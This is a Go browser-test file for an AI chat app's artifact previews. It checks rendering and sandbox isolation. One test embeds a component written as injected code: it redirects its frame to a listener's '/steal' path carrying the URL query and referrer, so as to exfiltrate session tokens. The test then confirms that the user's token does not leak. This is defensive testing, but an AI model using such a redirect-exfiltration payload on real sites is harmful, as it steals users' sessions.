package artifacts_test

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/zocket/agent/internal/apitest"
	"github.com/zocket/agent/internal/browsertest"
	"github.com/zocket/agent/internal/dynamotest"
)

// The browser tests load previews through the real routes, with the real
// headers, in headless Chromium: the previewUrl an artifact's metadata
// carries, exactly as the frontend's iframe does.

func TestMain(m *testing.M) {
	code := m.Run()
	browsertest.Close()
	os.Exit(code)
}

// parentPage serves a page on its own origin that keeps a secret in
// localStorage and a cookie, frames ?src=, and prints what the frame posts.
func parentPage(t *testing.T) *httptest.Server {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<!doctype html><html><body><pre id="out"></pre>
<script>
localStorage.setItem("secret", "parent-secret");
document.cookie = "session=parent-cookie";
addEventListener("message", (e) => { document.getElementById("out").textContent = JSON.stringify(e.data); });
</script>
<iframe id="preview" src="%s"></iframe></body></html>`, strings.ReplaceAll(r.URL.Query().Get("src"), `"`, "&quot;"))
	}))
	t.Cleanup(srv.Close)
	return srv
}

func browserEnv(t *testing.T, parent *httptest.Server) (*apitest.Env, apitest.User) {
	t.Helper()
	requirePackages(t)
	b := dynamotest.Backends(t)[0]
	env := apitest.New(t, dynamotest.NewTable(t, b), map[string]string{"CORS_ORIGINS": "http://localhost:3000," + parent.URL})
	return env, env.Register(t)
}

func navigate(t *testing.T, ctx context.Context, u string) {
	t.Helper()
	if err := chromedp.Do(ctx, chromedp.Navigate(u)); err != nil {
		t.Fatalf("navigate: %v", err)
	}
}

const tailwindCounter = "```tsx\nimport { useState } from \"react\";\nimport { Plus, Minus } from \"lucide-react\";\n\n" +
	"export default function Counter() {\n  const [count, setCount] = useState(0);\n  return (\n" +
	"    <div className=\"flex items-center gap-4 p-8\">\n" +
	"      <button id=\"dec\" onClick={() => setCount(count - 1)}><Minus /></button>\n" +
	"      <span id=\"count\" className=\"text-6xl font-bold\">{count}</span>\n" +
	"      <button id=\"inc\" className=\"rounded bg-blue-500 px-4 py-2 text-white\" onClick={() => setCount(count + 1)}><Plus /> Add</button>\n" +
	"    </div>\n  );\n}\n```"

func TestBrowserPreviews(t *testing.T) {
	parent := parentPage(t)
	env, u := browserEnv(t, parent)
	ctx := browsertest.NewTab(t)

	t.Run("react counter with lucide and tailwind", func(t *testing.T) {
		a := chat(t, env, u, tailwindCounter)[0]
		navigate(t, ctx, a["previewUrl"].(string))
		browsertest.WaitFor(t, ctx, `document.querySelector("#count")?.textContent === "0"`)
		for range 3 {
			if err := chromedp.Do(ctx, chromedp.Click(chromedp.CSS("#inc"), chromedp.NodeVisible)); err != nil {
				t.Fatal(err)
			}
		}
		browsertest.WaitFor(t, ctx, `document.querySelector("#count").textContent === "3"`)
		if n := browsertest.Eval[int](t, ctx, `document.querySelectorAll("svg.lucide").length`); n != 2 {
			t.Errorf("lucide icons = %d, want 2", n)
		}
		browsertest.WaitFor(t, ctx, `getComputedStyle(document.querySelector("#inc")).backgroundColor !== "rgba(0, 0, 0, 0)"`)
		if bg := browsertest.Eval[string](t, ctx, `getComputedStyle(document.querySelector("#inc")).backgroundColor`); bg != "oklch(0.623 0.214 259.815)" {
			t.Errorf("bg-blue-500 = %q", bg)
		}
		if fs := browsertest.Eval[string](t, ctx, `getComputedStyle(document.querySelector("#count")).fontSize`); fs != "60px" {
			t.Errorf("text-6xl = %q", fs)
		}
	})

	t.Run("html artifact", func(t *testing.T) {
		a := chat(t, env, u, "```html\n<!doctype html>\n<html><head><title>Hello page</title><style>h1 { color: rgb(200, 10, 10); }</style></head>\n<body><h1 id=\"t\">Hello HTML</h1><script>document.getElementById('t').dataset.ran = 'yes';</script></body></html>\n```")[0]
		navigate(t, ctx, a["previewUrl"].(string))
		browsertest.WaitFor(t, ctx, `document.querySelector("#t")?.dataset.ran === "yes"`)
		if c := browsertest.Eval[string](t, ctx, `getComputedStyle(document.querySelector("#t")).color`); c != "rgb(200, 10, 10)" {
			t.Errorf("color = %q", c)
		}
	})

	t.Run("three-file project", func(t *testing.T) {
		a := chat(t, env, u, project)[0]
		navigate(t, ctx, a["previewUrl"].(string))
		browsertest.WaitFor(t, ctx, `document.querySelector("h1.title")?.textContent === "Hi"`)
		if c := browsertest.Eval[string](t, ctx, `getComputedStyle(document.querySelector("h1.title")).color`); c != "rgb(102, 51, 153)" {
			t.Errorf("styles.css not applied: color %q", c)
		}
	})

	t.Run("broken component shows its error", func(t *testing.T) {
		a := chat(t, env, u, "```tsx\nexport default function Broken() {\n  throw new Error(\"kaboom 42\");\n}\n```")[0]
		navigate(t, ctx, a["previewUrl"].(string))
		browsertest.WaitFor(t, ctx, `document.body.textContent.includes("kaboom 42")`)
	})

	t.Run("framed preview is isolated from its parent", func(t *testing.T) {
		a := chat(t, env, u, "```javascript\nconst r = { origin: window.origin };\n"+
			"try { r.cookie = document.cookie; } catch (e) { r.cookie = \"threw \" + e.name; }\n"+
			"try { r.parentStorage = parent.localStorage.getItem(\"secret\"); } catch (e) { r.parentStorage = \"threw \" + e.name; }\n"+
			"try { r.parentCookie = parent.document.cookie; } catch (e) { r.parentCookie = \"threw \" + e.name; }\n"+
			"fetch(\"/api/auth/me\").then(() => { r.api = \"reached\"; }, (e) => { r.api = \"threw \" + e.name; }).finally(() => parent.postMessage(r, \"*\"));\n```")[0]
		navigate(t, ctx, parent.URL+"/?src="+url.QueryEscape(a["previewUrl"].(string)))
		browsertest.WaitFor(t, ctx, `document.querySelector("#out").textContent !== ""`)
		got := browsertest.Eval[map[string]any](t, ctx, `JSON.parse(document.querySelector("#out").textContent)`)
		want := map[string]any{
			"origin": "null", "cookie": "threw SecurityError",
			"parentStorage": "threw SecurityError", "parentCookie": "threw SecurityError",
			"api": "threw TypeError",
		}
		for k, w := range want {
			if got[k] != w {
				t.Errorf("%s = %v, want %v", k, got[k], w)
			}
		}
	})

	t.Run("second view revalidates", func(t *testing.T) {
		a := chat(t, env, u, tailwindCounter)[0]
		for range 2 {
			navigate(t, ctx, a["previewUrl"].(string))
			browsertest.WaitFor(t, ctx, `document.querySelector("#count")?.textContent === "0"`)
		}
		if !strings.Contains(env.Logs(), `"status":304`) {
			t.Error("the second view downloaded the page again instead of revalidating it (no 304)")
		}
	})
}

// TestPreviewCannotLeakTheSession runs a component that does what injected
// code would: navigate its frame to a listener with its own URL's query and
// its referrer. The frontend frames previews with the user's token in
// ?token=; what reaches the listener must authenticate as nothing but this
// artifact's preview.
func TestPreviewCannotLeakTheSession(t *testing.T) {
	var mu sync.Mutex
	var leaked []string
	listener := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		leaked = append(leaked, r.URL.RawQuery, r.Header.Get("Referer"))
		mu.Unlock()
		fmt.Fprint(w, "got it")
	}))
	t.Cleanup(listener.Close)
	parent := parentPage(t)
	env, u := browserEnv(t, parent)
	ctx := browsertest.NewTab(t)

	leak := "```tsx\nimport { useEffect } from \"react\";\n\nexport default function Leak() {\n  useEffect(() => {\n" +
		"    location.href = \"" + listener.URL + "/steal\" + location.search + \"&ref=\" + encodeURIComponent(document.referrer);\n" +
		"  }, []);\n  return <p>loading</p>;\n}\n```"
	a := chat(t, env, u, leak)[0]
	other := chat(t, env, u, "```tsx\nexport default function Other() { return <p>other</p>; }\n```")[0]
	id := a["id"].(string)
	framed := env.URL + "/api/artifacts/" + id + "/preview?token=" + url.QueryEscape(u.Token) // as the frontend frames it
	navigate(t, ctx, parent.URL+"/?src="+url.QueryEscape(framed))
	deadline := time.Now().Add(10 * time.Second)
	for {
		mu.Lock()
		n := len(leaked)
		mu.Unlock()
		if n > 0 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("the component never reached the listener (the test would prove nothing)")
		}
		time.Sleep(50 * time.Millisecond)
	}

	mu.Lock()
	defer mu.Unlock()
	all := strings.Join(leaked, " ")
	if strings.Contains(all, u.Token) || strings.Contains(all, url.QueryEscape(u.Token)) {
		t.Fatalf("the user's token reached the listener: %s", all)
	}
	tokens := regexp.MustCompile(`[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+`).FindAllString(all, -1)
	if len(tokens) == 0 {
		t.Fatalf("no token reached the listener (%q): the preview URL should carry its preview token", all)
	}
	for _, tok := range tokens {
		for _, check := range []struct {
			name, url string
			want      int
		}{
			{"the user's profile", env.URL + "/api/auth/me", 401},
			{"the artifact's metadata", env.URL + "/api/artifacts/" + id, 401},
			{"the artifact's code", env.URL + "/api/artifacts/" + id + "/code", 401},
			{"another artifact's preview", env.URL + "/api/artifacts/" + other["id"].(string) + "/preview?token=" + url.QueryEscape(tok), 401},
			{"this artifact's preview", env.URL + "/api/artifacts/" + id + "/preview?token=" + url.QueryEscape(tok), 200},
		} {
			h := map[string]string{}
			if !strings.Contains(check.url, "token=") {
				h["Authorization"] = "Bearer " + tok
			}
			if r := get(t, check.url, h); r.Status != check.want {
				t.Errorf("%s with the leaked token: %d, want %d", check.name, r.Status, check.want)
			}
		}
	}
}
